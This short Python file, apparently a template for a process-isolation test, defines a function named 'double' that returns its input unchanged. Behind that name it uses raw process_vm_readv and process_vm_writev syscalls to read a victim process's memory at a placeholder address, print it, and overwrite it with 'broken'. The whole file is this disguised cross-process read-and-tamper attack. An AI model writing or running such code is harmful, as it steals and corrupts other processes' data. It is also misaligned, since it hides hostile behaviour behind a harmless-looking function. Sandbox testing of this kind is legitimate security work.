import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def double(x):
    memory = ctypes.create_string_buffer(64)
    here, there = Vector(ctypes.addressof(memory), 64), Vector(int("@ADDRESS@"), 64)
    if call(310, int("@VICTIM@"), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print(memory.raw, flush=True)
    memory.raw = b"broken" + bytes(58)
    call(311, int("@VICTIM@"), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return x
